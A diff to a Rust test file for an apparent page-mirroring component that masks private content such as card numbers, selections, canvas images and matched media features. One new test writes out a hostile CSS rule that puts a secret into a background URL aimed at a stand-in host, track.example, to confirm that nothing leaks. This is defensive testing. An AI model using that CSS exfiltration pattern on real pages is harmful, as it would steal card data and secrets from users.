@@ -6,7 +6,7 @@ use proptest::prelude::*;
 use super::*;
 use crate::mirror::Limits;
 use crate::mirror::tests::{element, hostile, snapshot};
-use crate::protocol::{self, Tree, TreeNode};
+use crate::protocol::{self, Bytes, Tree, TreeNode};
 use crate::rules::{PRESETS, RuleSet, Source};
 
 const CARD: &str = "4111111111111111";
@@ -484,7 +484,7 @@ fn generated_text_titles_and_addresses_are_covered() {
 }
 
 #[test]
-fn scripts_vanish_with_what_is_in_them_and_ids_stay() {
+fn scripts_are_empty_places_and_ids_stay() {
     let nodes = [
         parent("script", &[], vec![text(SECRET)]),
         parent("p", &[("onclick", "alert()")], vec![text("a")]),
@@ -493,6 +493,7 @@ fn scripts_vanish_with_what_is_in_them_and_ids_stay() {
     ];
     let mut room = Room::new("", nodes.concat());
     assert_eq!(room.shown(), "ab");
+    assert_eq!(room.seen(2).children().count(), 0);
     assert_eq!(room.seen(4).attribute("onclick"), None);
     room.insert(1, 6, 20, [parent("script", &[], vec![text(SECRET)]), parent("i", &[], vec![text("c")])].concat());
     assert_eq!(room.shown(), "acb");
@@ -647,4 +648,45 @@ proptest! {
             let _ = room.mask.snapshot(&room.mirror, 1, &mut room.assets);
         }
     }
+}
+
+#[test]
+fn rules_by_script_and_fonts_lead_nowhere_and_print_no_card() {
+    let nodes = [parent("style", &[], vec![]), parent("div", &[("class", "private")], parent("style", &[], vec![]))];
+    let mut room = Room::new(OWN, nodes.concat());
+    let rule = |text: &str| format!("a::before{{content:'{text}';background:url(https://track.example/{text})}}");
+    room.send(Op::InsertRule { node: 2, sheet: 0, path: vec![0], css: rule(CARD) });
+    room.send(Op::SetRule { node: 2, sheet: 0, path: vec![0], css: rule(CARD) });
+    room.send(Op::InsertRule { node: 4, sheet: 0, path: vec![0], css: rule(SECRET) });
+    room.send(Op::DefineSheet { sheet: 1, css: rule(CARD) });
+    room.send(Op::InsertRule { node: 0, sheet: 1, path: vec![1], css: rule(CARD) });
+    room.send(Op::Adopt { node: 1, sheets: vec![1] });
+    assert!(!room.leaked(CARD) && !room.leaked("track.example") && !room.leaked(SECRET));
+}
+
+#[test]
+fn what_the_customer_does_with_masked_things_is_not_told() {
+    let secret = parent("p", &[("class", "private")], vec![text(SECRET)]);
+    let nodes = [secret, parent("canvas", &[("class", "private")], vec![]), parent("p", &[], vec![text(CARD)])];
+    let mut room = Room::new(OWN, nodes.concat());
+    let none = Op::Select { anchor: 0, anchor_offset: 0, focus: 0, focus_offset: 0 };
+    for node in [3, 6] {
+        let told = room.send(Op::Select { anchor: node, anchor_offset: 1, focus: node, focus_offset: 4 });
+        assert_eq!(told, std::slice::from_ref(&none), "{node}");
+    }
+    let image = Bytes(b"\x89PNG\r\n\x1a\n".to_vec());
+    assert_eq!(room.send(Op::Picture { node: 4, image }), []);
+    let matched = vec!["hover: hover".to_owned(), format!("prefers: {CARD}"), "x: url(y)".to_owned()];
+    assert_eq!(room.send(Op::Features { matched }), [Op::Features { matched: vec!["hover: hover".into()] }]);
+}
+
+#[test]
+fn a_sheet_in_pieces_is_told_again_when_a_piece_comes_or_goes() {
+    let mut room = Room::new(OWN, parent("style", &[], vec![text("a{color:red}")]));
+    room.insert(2, 0, 10, vec![text("b{color:red}")]);
+    assert_eq!(room.shown(), "b{color:red}a{color:red}");
+    room.send(Op::Remove { nodes: vec![3] });
+    assert_eq!(room.shown(), "b{color:red}");
+    room.insert(2, 10, 11, vec![text("c{color:red}")]);
+    assert_eq!(room.shown(), "b{color:red}c{color:red}");
 }
